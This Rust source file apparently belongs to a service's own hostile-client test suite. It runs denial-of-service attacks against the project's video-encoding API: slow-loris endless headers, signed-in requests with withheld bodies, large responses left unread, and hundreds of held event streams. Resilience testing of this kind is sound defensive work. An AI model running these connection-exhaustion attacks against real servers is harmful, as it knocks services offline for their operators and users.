//! Clients that are many and hold on to what they have.

use std::time::Duration;

use rand::RngExt as _;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::interval,
};

use crate::hostile::attacker::{Attacker, at_once, pace};

/// "Slow loris": a head that never ends.
pub(super) async fn slow_heads(mut attacker: Attacker) {
    at_once(&mut attacker, 200, |attacker| async move {
        let mut pace = pace(1000);
        loop {
            pace.tick().await;
            let Some(mut stream) = attacker.connect("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ").await
            else {
                continue;
            };
            loop {
                tokio::select! {
                    _ = pace.tick() => if stream.write_all(b"x").await.is_err() { break },
                    end = stream.read_u8() => if end.is_err() { break },
                }
            }
            attacker.tally.count("closed");
        }
    })
    .await;
}

/// Calls that are signed in and then silent.
pub(super) async fn absent_bodies(mut attacker: Attacker) {
    at_once(&mut attacker, 50, |attacker| async move {
        let head = format!(
            "POST /vodencoding/v1/add_template HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\nContent-Length: 1000000\r\n\r\n{{",
            attacker.basic()
        );
        let mut pace = pace(1000);
        loop {
            pace.tick().await;
            if let Some(stream) = attacker.connect(&head).await {
                attacker.read_status(stream).await;
            }
        }
    })
    .await;
}

/// Megabytes are asked for, and not read.
pub(super) async fn unread_answers(mut attacker: Attacker) {
    let Some((link, storage)) = make_large_output(&attacker).await else { return };
    let tasks: Vec<_> = (0..1000)
        .map(|number| {
            json!({
                "template_name": "mp4-360p", "storage_id": storage, "input": "http://127.1.0.9:9/none.mp4",
                "output": format!("{number}.mp4"), "custom_info": "c".repeat(700),
            })
        })
        .collect();
    attacker.post("create_batch", json!({"tasks": tasks})).await;
    let path_of_link = link.split_once("//").and_then(|(_, rest)| rest.split_once('/')).map(|(_, path)| path);
    let heads = [
        format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", path_of_link.unwrap_or_default()),
        format!(
            "GET /vodencoding/v1/list_task?count=1000 HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\n\r\n",
            attacker.basic()
        ),
    ];
    at_once(&mut attacker, 60, |mut attacker| {
        let head = heads[attacker.rng.random_range(0..heads.len())].clone();
        ask_and_hold(attacker, head, 20)
    })
    .await;
}

/// Makes an output of some 30 MB, as a copy of an upload; gives a link to it, and its storage.
async fn make_large_output(attacker: &Attacker) -> Option<(String, String)> {
    let storage = attacker.add_storage(json!({"type": "file", "bucket": "unread"})).await?;
    let bytes = tokio::fs::read(attacker.files.join("large.mp4")).await.expect("it was made");
    let upload = attacker.call(reqwest::Method::POST, "upload?name=large", bytes).await?;
    let template = json!({"template_name": "copy", "format": "mp4", "vcodec": "copy", "acodec": "none"});
    attacker.post("add_template", template).await;
    let task = json!({
        "template_name": "copy", "storage_id": storage, "input": upload["input"], "output": "large.mp4",
    });
    let task = attacker.post("create_task", task).await?["task_id"].as_str()?.to_owned();
    let mut pace = pace(500);
    while attacker.get(&format!("query_task?task_id={task}")).await?["status"] != "succeeded" {
        pace.tick().await;
    }
    let signed = attacker.get(&format!("sign_output?task_id={task}")).await?;
    Some((signed["url"].as_str()?.to_owned(), storage))
}

/// Streams of a task that does not end soon.
pub(super) async fn event_streams(mut attacker: Attacker) {
    let Some(storage) = attacker.add_storage(json!({"type": "file", "bucket": "streams"})).await else {
        return;
    };
    let input = crate::hostile::attacks::inputs::serve_silence().await;
    let Some(task) = attacker.create_task(&storage, &input, "never.mp4").await else { return };
    let head = format!(
        "GET /vodencoding/v1/task_events?task_id={task} HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\n\r\n",
        attacker.basic()
    );
    at_once(&mut attacker, 300, |attacker| ask_and_hold(attacker, head.clone(), 30)).await;
}

/// Sends a request, reads the status of the answer and nothing more for so many seconds; and again.
async fn ask_and_hold(attacker: Attacker, head: String, seconds: u64) {
    let mut pace = pace(1000);
    loop {
        pace.tick().await;
        let Some(stream) = attacker.connect(&head).await else { continue };
        let Some(stream) = attacker.read_status(stream).await else { continue };
        let mut hold = interval(Duration::from_secs(seconds));
        // the first tick is at once
        hold.tick().await;
        hold.tick().await;
        drop(stream);
    }
}
